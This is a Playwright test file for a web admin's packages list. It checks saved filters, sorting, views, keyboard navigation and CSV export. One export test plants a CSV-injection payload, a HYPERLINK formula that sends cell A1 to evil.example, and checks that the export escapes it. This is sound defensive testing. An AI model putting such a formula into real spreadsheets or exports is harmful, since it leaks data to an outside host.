import { readFile } from 'node:fs/promises'
import { expect, type Page } from '@playwright/test'
import { openPackageScreen } from '../src/package-screen.ts'
import { openFromMenu, sections } from '../src/sections.ts'
import { test } from '../src/test.ts'

const [, , coupons, ...others] = sections

const namesOf = (page: Page) => page.getByRole('row').getByRole('link').allTextContents()
const searchOf = (page: Page) => page.getByRole('searchbox')
const statusOf = (page: Page, name: string) => page.getByRole('radio', { name, exact: true })

async function openPanel(page: Page) {
  await page.getByRole('button', { name: 'View options' }).click()
  return page.getByRole('region', { name: 'View options' })
}

test('filter, search and sort survive a reload, and Back brings them with the scroll and the focused row', async ({
  page,
  signIn,
}) => {
  await signIn(page)
  await page.setViewportSize({ width: 1280, height: 500 })
  await page.goto('/packages/')
  await page.getByRole('radiogroup', { name: 'Status' }).getByText('Published').click()
  await page.getByRole('columnheader', { name: 'Price' }).click()
  await searchOf(page).fill('co')
  const address = '/packages/?status=published&sort=price&q=co'
  await expect(page).toHaveURL(address)
  const names = await namesOf(page)
  expect(names.length).toBeGreaterThan(3)
  await page.reload()
  await expect(page.getByRole('row').nth(1)).toBeVisible()
  expect(await namesOf(page)).toEqual(names)
  await expect(searchOf(page)).toHaveValue('co')
  await expect(statusOf(page, 'Published')).toBeChecked()

  await searchOf(page).press('ArrowDown')
  for (let step = 0; step < 3; step += 1) await page.keyboard.press('ArrowDown')
  const focused = page.getByRole('row').filter({ hasText: names[3] ?? '' })
  await expect(focused).toBeFocused()
  await page.mouse.wheel(0, 200)
  await expect.poll(() => page.evaluate(() => scrollY)).toBeGreaterThan(50)
  const scroll = await page.evaluate(() => scrollY)
  if (coupons !== undefined) await openFromMenu(page, coupons)
  await page.goBack()
  await expect(page).toHaveURL(address)
  await expect(focused).toBeFocused()
  expect(await namesOf(page)).toEqual(names)
  await expect.poll(() => page.evaluate(() => scrollY)).toBe(scroll)
})

test('the export holds what is shown, and what a spreadsheet would run is kept from running', async ({
  page,
  signIn,
}) => {
  await signIn(page)
  await page.goto('/packages/')
  const hostile = '=HYPERLINK("https://evil.example/?"&A1,"Prize")'
  const screen = openPackageScreen(page)
  await screen.create({ name: hostile, coins: '10', gems: '1', price: '1.50' })
  await expect(screen.row(hostile)).toBeVisible()
  await searchOf(page).fill('hyperlink')
  await expect(page.getByText(/^1 of \d+ packages$/)).toBeVisible()
  const download = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Export as CSV' }).click()
  const file = await download
  expect(file.suggestedFilename()).toMatch(/^packages-\d{4}-\d\d-\d\d\.csv$/)
  const [head, row, ...rest] = (await readFile(await file.path(), 'utf8')).split('\r\n')
  expect(head).toBe('\ufeffName,Coins,Gems,Price,Per coin,Status,Updated')
  expect(row).toMatch(/^"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Prize""\)",10,1,1\.5,0\.15,Draft,/)
  expect(rest).toEqual([''])
})

test('columns and density are chosen once and stay', async ({ page, signIn }) => {
  await signIn(page)
  await page.goto('/packages/')
  const heading = (name: string) => page.getByRole('columnheader', { name, exact: true })
  const panel = await openPanel(page)
  const row = openPackageScreen(page).row('Family plan')
  const height = async () => (await row.boundingBox())?.height ?? 0
  const before = await height()
  await panel.getByRole('checkbox', { name: 'Created' }).check()
  await panel.getByRole('checkbox', { name: 'Gems' }).uncheck()
  await panel.getByText('Compact').click()
  await page.keyboard.press('Escape')
  for (const visit of ['now', 'after a reload']) {
    if (visit !== 'now') await page.reload()
    await expect(heading('Created')).toBeVisible()
    await expect(heading('Gems')).toHaveCount(0)
    await expect.poll(height).toBeLessThan(before)
  }
})

test('a view is kept under a name, and its link shows a colleague the same', async ({
  page,
  context,
  signIn,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await signIn(page)
  await page.goto('/packages/?status=published&sort=-price')
  await expect(page.getByRole('row').nth(1)).toBeVisible()
  const names = await namesOf(page)
  const panel = await openPanel(page)
  await panel.getByLabel('Name of the view').fill('Dearest first')
  await panel.getByRole('button', { name: 'Save view' }).click()
  await panel.getByRole('button', { name: 'Copy a link to this view' }).click()
  await expect(page.getByText('Link copied')).toBeVisible()
  const link = await page.evaluate(() => navigator.clipboard.readText())

  await page.goto('/packages/')
  await expect(statusOf(page, 'All')).toBeChecked()
  await (await openPanel(page)).getByRole('button', { name: 'Dearest first', exact: true }).click()
  await expect(statusOf(page, 'Published')).toBeChecked()
  // The rows follow the toolbar.
  await expect.poll(() => namesOf(page)).toEqual(names)

  const colleague = await context.newPage()
  await colleague.goto(link)
  await expect(colleague.getByRole('row').nth(1)).toBeVisible()
  await expect.poll(() => namesOf(colleague)).toEqual(names)
})

test('from the search to a row and its actions without a mouse', async ({ page, signIn }) => {
  await signIn(page)
  await page.goto('/packages/')
  await expect(page.getByRole('row').nth(1)).toBeVisible()
  await page.keyboard.press('/')
  await expect(searchOf(page)).toBeFocused()
  await page.keyboard.type('gem box')
  await expect(page.getByText(/^\d of \d+ packages$/)).toBeVisible()
  // The rows follow the count.
  await expect.poll(() => page.getByRole('row').count()).toBeLessThan(10)
  await page.keyboard.press('ArrowDown')
  await expect(page.getByRole('row').nth(1)).toBeFocused()
  await page.keyboard.press('x')
  await expect(page.getByText('1 package selected')).toBeVisible()
  await page.keyboard.press('.')
  await expect(page.getByRole('menuitem', { name: 'Edit' })).toBeVisible()
  await page.keyboard.press('Enter')
  const form = page.getByRole('dialog')
  await expect(form.getByLabel('Name')).toHaveValue(/^Gem box/)
  await page.keyboard.press('Escape')
  await expect(form).toHaveCount(0)
  await expect(page.getByRole('row').nth(1)).toBeVisible()
})

for (const { path } of [...(coupons === undefined ? [] : [coupons]), ...others]) {
  test(`${path} is searched, sorted and exported like every list`, async ({ page, signIn }) => {
    await signIn(page)
    await page.goto(path)
    await expect(page.getByRole('row').nth(1)).toBeVisible()
    await page.keyboard.press('/')
    await expect(searchOf(page)).toBeFocused()
    await page.keyboard.type('e')
    await expect(page).toHaveURL(`${path}?q=e`)
    await page.reload()
    await expect(searchOf(page)).toHaveValue('e')
    const panel = await openPanel(page)
    await expect(panel.getByRole('checkbox').first()).toBeVisible()
    await page.keyboard.press('Escape')
    const download = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Export as CSV' }).click()
    expect((await download).suggestedFilename()).toMatch(/\.csv$/)
  })
}
